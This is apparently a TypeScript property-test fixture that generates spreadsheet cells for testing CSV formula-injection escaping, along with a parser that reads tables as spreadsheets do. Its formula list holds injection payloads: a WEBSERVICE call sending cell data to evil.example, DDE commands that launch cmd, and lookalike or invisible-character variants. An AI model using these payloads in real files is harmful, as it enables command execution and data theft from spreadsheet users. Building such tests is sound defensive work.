import fc from 'fast-check';

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =cmd|"/c calc"!A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u200b=1',
  '\u00a0=1',
  '\u202e=1',
  '"=1',
  '""=1',
  '"""=1+LEN("x',
  "'=1",
  "''=1",
  '=HYPERLINK("https://evil.example","x")',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=DDE("cmd";"/c calc";"1")',
  '=1+1;=2+2',
  '+44 7700 900123',
  '-',
  '=',
];
const separators = [
  ';',
  '\t',
  ',',
  '\n',
  '\r\n',
  '\r',
  '"',
  '";',
  '";"',
  '",',
  '"\t',
  '; ',
  ';"',
  ';""',
  ';"""',
  ',"',
  '"\r\n"',
];
const beginnings = ['', 'x', '"x', 'x"', "x'", ' ', '"', '""', 'Zoë'];
const ends = ['', 'y', '"', ';', '\t', '\r\n', '";', ';=1', '""'];

/** Every formula behind every separator, and at every place of a text. */
export const everyCell: readonly string[] = formulas.flatMap((formula) => [
  formula,
  ...separators.flatMap((separator) =>
    beginnings.map((beginning, place) => `${beginning}${separator}${formula}${ends[place % ends.length]}`),
  ),
]);

const part = fc.oneof(
  fc.constantFrom(...formulas),
  fc.constantFrom(...separators, ...beginnings, ...ends),
  fc.string({ unit: 'binary', maxLength: 6 }),
);

export const anyCell: fc.Arbitrary<string> = fc
  .array(part, { minLength: 1, maxLength: 6 })
  .map((parts) => parts.join(''));

/** As spreadsheets read it: a quote opens where a cell begins, and what stands behind the closing one belongs to the cell. */
export function readTable(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = 0; at < text.length; ) {
    const quoted = text[at] === '"' ? (/^"((?:[^"]|"")*)"?/.exec(text.slice(at)) ?? undefined) : undefined;
    at += quoted?.[0].length ?? 0;
    let rest = '';
    while (at < text.length && text[at] !== separator && !'\r\n'.includes(text[at] ?? '')) rest += text[at++];
    rows.at(-1)?.push((quoted?.[1] ?? '').replaceAll('""', '"') + rest);
    if (text[at] === separator) {
      at += 1;
      if (at === text.length) rows.at(-1)?.push('');
    } else if (at < text.length) {
      at += text.startsWith('\r\n', at) ? 2 : 1;
      rows.push([]);
    }
  }
  return rows;
}
